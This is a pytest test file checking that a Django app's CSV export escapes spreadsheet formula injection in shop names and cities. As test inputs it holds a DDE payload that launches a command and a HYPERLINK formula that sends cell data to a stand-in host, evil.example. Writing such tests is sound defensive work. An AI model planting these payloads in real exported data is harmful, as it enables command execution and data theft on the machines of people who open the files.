import csv
import io

import pytest

from reserve.apps.lightsoff.models import ShopStatus
from reserve.apps.lightsoff.tests.factories import ShopFactory
from reserve.core.csv_export import SafeDictWriter, safe_writer


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_could_start_a_formula_is_neutralised(start):
    out = io.StringIO()

    safe_writer(out).writerow([f"{start}cmd|' /C calc'!A0", "Boulangerie", 12, -0.57])

    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells == [f"'{start}cmd|' /C calc'!A0", "Boulangerie", "12", "-0.57"]


def test_the_dict_writer_neutralises_every_row():
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["name"])

    writer.writeheader()
    writer.writerows([{"name": "=1+1"}, {"name": "@SUM(A1)"}])

    assert out.getvalue().splitlines() == ["name", "'=1+1", "'@SUM(A1)"]


@pytest.mark.django_db
def test_the_open_data_export_cannot_run_a_formula(client):
    ShopFactory(
        name='=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
        city="+33 Bordeaux",
        status=ShopStatus.REPORTED,
    )

    response = client.get("/lightsoff/impact/commerces.csv")

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert response["Content-Type"].startswith("text/csv")
    assert rows[0]["name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Cliquez")'
    assert rows[0]["city"] == "'+33 Bordeaux"
    assert rows[0]["lon"] == "-0.573"
